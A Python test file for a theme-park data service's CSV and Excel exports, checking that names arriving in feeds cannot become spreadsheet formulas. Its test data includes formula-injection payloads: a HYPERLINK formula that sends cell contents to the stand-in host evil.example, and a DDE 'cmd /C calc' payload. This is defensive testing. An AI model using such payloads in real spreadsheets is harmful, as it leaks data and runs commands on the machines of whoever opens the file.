"""No name from a feed becomes a formula in a spreadsheet, whoever writes the file; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

import hallofshame
from hallofshame.clock import FixedClock
from hallofshame.domain.csv_cells import BYTE_ORDER_MARK, cell, plain_text, safe_text, text_cell
from hallofshame.pipeline.export import export
from hallofshame.pipeline.export_files import text_cells, write_pieces
from hallofshame.store.database import Database
from hallofshame.store.models import Park, Ride
from hallofshame.web.app import create_app
from pipeline.fakes import MONDAY, TUESDAY, small_world

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"Taron")'
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "'=1+1",
    '"=1+1',
    "\u201c=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\u22121",
    "-1\n",
    "-",
    "=cmd|' /C calc'!A0",
    EVIL,
]
SAFE = [
    "Taron",
    "",
    "F.L.Y.",
    "1-2-3",
    "a=b",
    "me@example.org",
    "2026-08-01",
    "#1",
    "(=)",
    "+02:00",
    "-12.5",
    "\u00c9toile +",
    "0",
]
NEARLY = st.text(
    alphabet="=+-@\t\r\n '\"`,;|a\u00a0\ufeff\uff1d\u2212\uff20\u200b\u00e4\x00\x1c\x85\u2028", max_size=8
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_text(text) == f"'{text}"


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_names_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


@pytest.mark.slow
@given(st.one_of(st.text(), NEARLY))
def test_every_text_comes_back(text: str) -> None:
    assert plain_text(safe_text(text)) == text
    (row,) = csv.reader(io.StringIO(f"{text_cell(text)},1\r\n", newline=""))
    assert [plain_text(row[0]), row[1]] == [text, "1"]


@given(st.lists(st.one_of(st.text(), NEARLY), min_size=1))
def test_columns_are_written_as_single_cells_are(texts: list[str]) -> None:
    column = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    assert column.select(text_cells(pl.col("text")))["text"].to_list() == [text_cell(text) for text in texts]


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-1, -1.5, 0, 1e-7, True, None)] == [
        "-1",
        "-1.5",
        "0",
        "1e-07",
        "true",
        "",
    ]


def test_a_cell_cannot_open_another_where_semicolons_or_tabs_split() -> None:
    assert text_cell("Taron;=1+1") == '"Taron;=1+1"'
    assert text_cell("Taron\t=1+1") == '"Taron\t=1+1"'


def test_files_hold_numbers_nulls_and_texts_apart(tmp_path: Path) -> None:
    frame = pl.DataFrame({"name": ["=1", None, "", "a,b"], "score": [-1.5, None, 0.0, 2.25]})
    write_pieces([frame], "csv", str(tmp_path / "x.csv"))
    assert (tmp_path / "x.csv").read_text() == 'name,score\n\'=1,-1.5\n,\n"",0.0\n"a,b",2.25\n'
    write_pieces([frame], "excel", str(tmp_path / "y.csv"))
    assert (tmp_path / "y.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "x.csv").read_bytes()


@pytest.fixture
def evil_world(sqlite_database: Database) -> Database:
    """A small record in which every park and every ride has a name that is a formula."""
    small_world(sqlite_database)
    with sqlite_database.write() as connection:
        connection.execute(update(Park).values(name=EVIL))
        connection.execute(update(Ride).values(name=EVIL))
    return sqlite_database


def cells(text: str) -> list[str]:
    return [
        found
        for row in csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""))
        for found in row
    ]


@pytest.mark.parametrize("form", ["csv", "excel"])
@pytest.mark.parametrize(
    "address", ["parks", "rides/waittimes", "parks/downtime", "rides/downtime", "outages"]
)
def test_no_answer_holds_a_formula(evil_world: Database, address: str, form: str) -> None:
    now = FixedClock(dt.datetime(2026, 6, 10, tzinfo=dt.UTC))
    client = create_app(evil_world, now).test_client()
    query = "" if address == "parks" else f"&start={MONDAY}&end={TUESDAY}"
    answer = client.get(f"/api/{address}?format={form}{query}")
    assert answer.status_code == 200, answer.text
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.data.startswith(b"\xef\xbb\xbf") == (form == "excel")
    found = cells(answer.text)
    assert f"'{EVIL}" in found
    assert not [one for one in found if re.match(r"\s*[=@]|\s*[+-][^0-9]", one)]


@pytest.mark.parametrize("what", ["park-days", "ride-hours", "outages"])
def test_no_export_holds_a_formula_and_it_comes_back(evil_world: Database, tmp_path: Path, what: str) -> None:
    path = tmp_path / "x.csv"
    now = dt.datetime(2026, 6, 10, tzinfo=dt.UTC)
    export(evil_world, what, MONDAY, TUESDAY, "csv", str(path), now=now, cadence_seconds=300)
    found = cells(path.read_text())
    assert f"'{EVIL}" in found
    assert EVIL not in found
    assert plain_text(f"'{EVIL}") == EVIL


def test_nobody_else_writes_csv() -> None:
    source = Path(hallofshame.__file__).parent
    writers = {
        str(file.relative_to(source))
        for file in source.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)|write_csv\(|sink_csv\(", file.read_text(encoding="utf-8"))
    }
    assert writers == {"pipeline/export_files.py"}
